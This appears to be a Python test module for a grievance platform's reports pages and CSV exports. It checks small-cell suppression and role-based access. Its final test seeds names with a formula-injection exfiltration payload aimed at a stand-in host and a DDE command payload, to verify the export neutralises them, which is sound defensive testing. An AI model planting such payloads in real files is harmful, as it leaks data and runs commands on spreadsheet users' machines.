"""/reports: counts per month with small cells suppressed, in the page, the chart and the CSV;
handlers see every case, buyers only their linked suppliers'."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from flask import Flask
from sqlalchemy import func, insert, select

from grievance.auth import accounts
from grievance.clock import utcnow
from grievance.demo import create_demo
from grievance.models import Case
from grievance.models.accounts import buyer_suppliers
from grievance.runtime import Runtime
from tests.support.demo import first_supplier
from tests.support.period import (
    cases_in,
    demo_period,
    long_period,
    previous_month,
    published,
)
from tests.support.staff import PASSWORD, handler, sign_in

# Depends on today's date: CI runs this module again under a shifted clock.
pytestmark = pytest.mark.clock


def rows_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def test_a_handler_sees_every_case_with_small_cells_hidden(app: Flask, runtime: Runtime) -> None:
    now = utcnow()
    create_demo(runtime, now=now)
    period = demo_period(now)
    staff = handler(app, runtime)
    query = f"by=category&{period.query}"
    page = staff.get(f"/reports?{query}").get_data(as_text=True)
    assert "Cases received by category and month" in page
    assert "&lt;10" in page  # a six-month demo has small cells
    # The page shows staff live months, this one included; the CSV leaves the mechanism,
    # so it holds only the published quarters of the period.
    assert f">{period.last}</th>" in page
    exported = staff.get(f"/reports/export.csv?{query}")
    assert exported.headers["Content-Disposition"].startswith("attachment;")
    table = rows_of(exported.get_data(as_text=True))
    files = published(period, now.date())
    assert table[0] == ["Category", *files.months, "Total"]
    assert period.last not in table[0]
    shown = [value for row in table[1:] for value in row[1:]]
    for value in shown:  # nothing between 1 and 9 is ever shown
        assert value in ("<10", "–") or value == "0" or int(value) >= 10, value
    assert "<10" in shown
    with runtime.sessions() as session:
        in_period = cases_in(session, files)
    assert table[-1][-1] in (str(in_period), "–")
    published_page = staff.get(f"/reports?view=published&{query}").get_data(as_text=True)
    assert f">{period.last}</th>" not in published_page
    for row in table[1:]:  # every row is a table cell in the published page as well
        assert f">{row[0]}</th>" in published_page
    chart = staff.get(f"/reports/chart.svg?{query}")
    assert chart.mimetype == "image/svg+xml"
    svg = chart.get_data(as_text=True)
    assert "<script" not in svg
    assert (
        chart.headers["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'"
    )
    assert "Cases per month" in svg
    # The chart follows the chosen dimension: its series are the table's rows.
    assert f">{table[1][0]}<" in svg
    by_site = staff.get(f"/reports/chart.svg?by=site&{period.query}").get_data(as_text=True)
    site_table = rows_of(
        staff.get(f"/reports/export.csv?by=site&{period.query}").get_data(as_text=True)
    )
    assert f">{site_table[1][0]}<" in by_site
    assert f">{table[1][0]}<" not in by_site


def test_a_buyer_sees_only_its_suppliers_cases(app: Flask, runtime: Runtime) -> None:
    now = utcnow()
    create_demo(runtime, now=now)
    with runtime.sessions() as session:
        supplier = first_supplier(session)
        buyer = accounts.create_organisation(session, "Only One Supplier Brand", "buyer")
        session.execute(insert(buyer_suppliers).values(buyer_id=buyer.id, supplier_id=supplier.id))
        accounts.create_user(
            session, "b@example.org", "buyer", PASSWORD, buyer.name, must_change_password=False
        )
        files = published(long_period(now), now.date())
        theirs = cases_in(session, files, supplier.id)
        session.commit()
        supplier_name = supplier.name
    client = sign_in(app, "b@example.org")
    table = rows_of(
        client.get(f"/reports/export.csv?by=supplier&{long_period(now).query}").get_data(
            as_text=True
        )
    )
    assert [row[0] for row in table[1:-1]] == [supplier_name]
    assert table[-1][-1] in (str(theirs), "–")
    assert client.get("/reports?by=nonsense").status_code == 400
    # Live figures are for staff: a buyer has only the published quarters.
    assert client.get("/reports?view=live").status_code == 403
    page = client.get(f"/reports?{long_period(now).query}").get_data(as_text=True)
    assert "Published quarters" in page
    assert f">{long_period(now).last}</th>" not in page


def test_suppliers_have_no_reports(app: Flask, runtime: Runtime) -> None:
    with runtime.sessions() as session:
        org = accounts.create_organisation(session, "S", "supplier")
        accounts.create_user(
            session, "s@example.org", "supplier", PASSWORD, org.name, must_change_password=False
        )
        session.commit()
    client = sign_in(app, "s@example.org")
    assert client.get("/reports").status_code == 404
    assert client.get("/reports/export.csv").status_code == 404
    assert re.search("Reports", client.get("/supplier/cases").get_data(as_text=True)) is None


def test_handling_figures_hide_what_few_cases_would_reveal(app: Flask, runtime: Runtime) -> None:
    from grievance.reports.outcomes import _share

    now = utcnow()
    create_demo(runtime, now=now)
    period = demo_period(now)
    staff = handler(app, runtime)
    page = staff.get(f"/reports?{period.query}").get_data(as_text=True)
    assert "How cases were handled" in page
    assert re.search(
        r"Time to acknowledge</th><td class=\"num\">\d+</td><td>median [\d.]+ (h|days), p90", page
    )
    assert (
        "Resolved with the worker&#39;s confirmation" in page
        or "Resolved with the worker's confirmation" in page
    )
    handling = rows_of(staff.get(f"/reports/handling.csv?{period.query}").get_data(as_text=True))
    files = published(period, now.date())
    quarters = sorted({f"{m[:4]}-Q{(int(m[5:]) - 1) // 3 + 1}" for m in files.months})
    assert handling[0] == [
        "Measure",
        *(f"{q} {part}" for q in quarters for part in ("cases", "figure")),
    ]
    assert handling[2][0] == "Time to acknowledge"
    assert re.match(r"median [\d.]+ (h|days), p90", handling[2][-1])
    trend_at = handling.index(["Month by month", *files.months])
    for value in handling[trend_at + 1][1:]:  # the months' totals, suppressed as in the table
        assert value in ("<10", "–", "0") or int(value) >= 10
    # One month of a quiet category is too few for a median: it says so instead.
    last = previous_month(now)  # a whole month of the demo: about 33 cases in 14 categories
    one = staff.get(f"/reports?by=category&from={last}&to={last}").get_data(as_text=True)
    assert "fewer than 10 cases" in one
    assert _share(3, 40, 10) == "fewer than 10 of 40"  # three people are not a rate
    assert _share(37, 40, 10) == "all but fewer than 10 of 40"
    assert _share(20, 40, 10) == "50% (20 of 40)"


def test_time_frames_kept_and_site_alerts_are_reported(app: Flask, runtime: Runtime) -> None:
    from grievance.models import CaseEvent, Site, SiteAlert
    from grievance.reports.outcomes import outcome_measures

    now = utcnow()
    create_demo(runtime, now=now)
    with runtime.sessions() as session:
        ids = session.scalars(select(Case.id).order_by(Case.id).limit(20)).all()
        for case_id in ids:
            session.add(CaseEvent(case_id=case_id, kind="escalated", actor="system", data={}))
        site = session.scalars(select(Site)).first()
        session.add(SiteAlert(site_id=site.id, category="WAGE", cases=3, raised_at=now))
        session.commit()
        first = date.fromisoformat(f"{long_period(now).first}-01")
        measures = {m.label: m for m in outcome_measures(session, first, now.date(), 10)}
        total = session.scalar(select(func.count(Case.id)))
    kept = measures["Every stage within its time frame"]
    assert kept.n == total
    assert kept.value == f"{(total - 20) / total:.0%} ({total - 20} of {total})"
    assert (
        measures["Site alerts raised (3 or more similar cases at one site in 30 days)"].value == "1"
    )


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sunrise")'


def test_names_that_a_spreadsheet_would_run_are_exported_as_text(
    app: Flask, runtime: Runtime
) -> None:
    from sqlalchemy import update

    from grievance.models import Site
    from grievance.services.exports import write_cases

    now = utcnow()
    create_demo(runtime, now=now)
    with runtime.sessions() as session:
        supplier = first_supplier(session)
        supplier.name = FORMULA
        session.execute(update(Site).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
        session.commit()
    table = rows_of(
        handler(app, runtime)
        .get(f"/reports/export.csv?by=supplier&{long_period(now).query}")
        .get_data(as_text=True)
    )
    names = [row[0] for row in table[1:-1]]
    assert "'" + FORMULA in names  # an apostrophe first: text, not a formula
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    out = io.StringIO()
    with runtime.sessions() as session:
        write_cases(session, out, date(2000, 1, 1), date(2100, 1, 1))
    cells = [cell for row in rows_of(out.getvalue())[1:] for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
